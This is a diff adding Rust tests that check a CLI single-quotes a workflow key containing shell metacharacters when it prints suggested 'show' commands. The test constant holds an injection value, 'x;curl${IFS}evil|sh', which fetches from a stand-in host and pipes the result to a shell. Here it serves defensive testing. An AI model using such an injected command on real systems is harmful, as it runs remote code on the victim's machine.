@@ -190,3 +190,39 @@ fn an_act_that_was_done_is_said_to_be_done_if_it_cannot_be_looked_at_again() {
         );
     }
 }
+
+/// A key may have characters that a shell obeys.
+const OF_A_SHELL: &str = "x;curl${IFS}evil|sh";
+
+#[test]
+fn key_in_a_line_that_shows_the_workflow_is_quoted() {
+    let place = place();
+    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
+    runtime.block_on(async {
+        let workflows = Workflows::new(&place.client(), place.workflows()).expect("workflows");
+        workflows.start(&Stuck, OF_A_SHELL, &"7".to_owned()).run().await.expect("an outcome");
+    });
+    for (verb, options, version) in
+        [("retry", &[][..], ""), ("cancel", &["--not-started", "--key-version", "2"], " --key-version 2")]
+    {
+        let seen = ["--seen", "0123456789", "--reason", "books"];
+        let ran = place.run(&[&["workflow", verb, OF_A_SHELL], options, &seen].concat());
+        assert_eq!(ran.code, 4, "{verb}: {}", ran.said);
+        let line = format!(" workflow show '{OF_A_SHELL}'{version}`");
+        assert!(ran.said.contains(&line), "{line} is not in {}", ran.said);
+    }
+}
+
+#[test]
+fn key_in_a_line_that_shows_the_token_is_quoted() {
+    let (engine, place) = (Embedded::memory().expect("an engine"), place());
+    let served = Counted::start(&engine);
+    let at = ["--table", "locks", "--endpoint-url", served.endpoint()];
+    let run = |call: &[&str]| bare(&place, &[&at[..], call].concat(), &[]);
+    assert_eq!(run(&["table", "create"]).code, 0);
+    served.deny("DeleteItem");
+    let ran = run(&["once", OF_A_SHELL, "--retry-on-failure", "--", "sh", "-c", "exit 8"]);
+    assert_eq!(ran.code, 8, "{}", ran.said);
+    let line = format!(" show '{OF_A_SHELL}'` shows what other callers see");
+    assert!(ran.said.contains(&line), "{line} is not in {}", ran.said);
+}
